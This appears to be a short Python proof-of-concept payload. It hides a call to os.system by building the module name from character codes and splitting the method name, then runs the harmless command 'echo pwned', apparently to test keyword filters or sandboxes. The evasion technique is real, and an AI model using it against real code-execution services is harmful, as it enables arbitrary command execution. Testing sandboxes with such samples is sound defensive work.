import importlib
importlib.import_module(''.join(map(chr, [111, 115]))).__getattribute__('sys' + 'tem')('echo pwned')
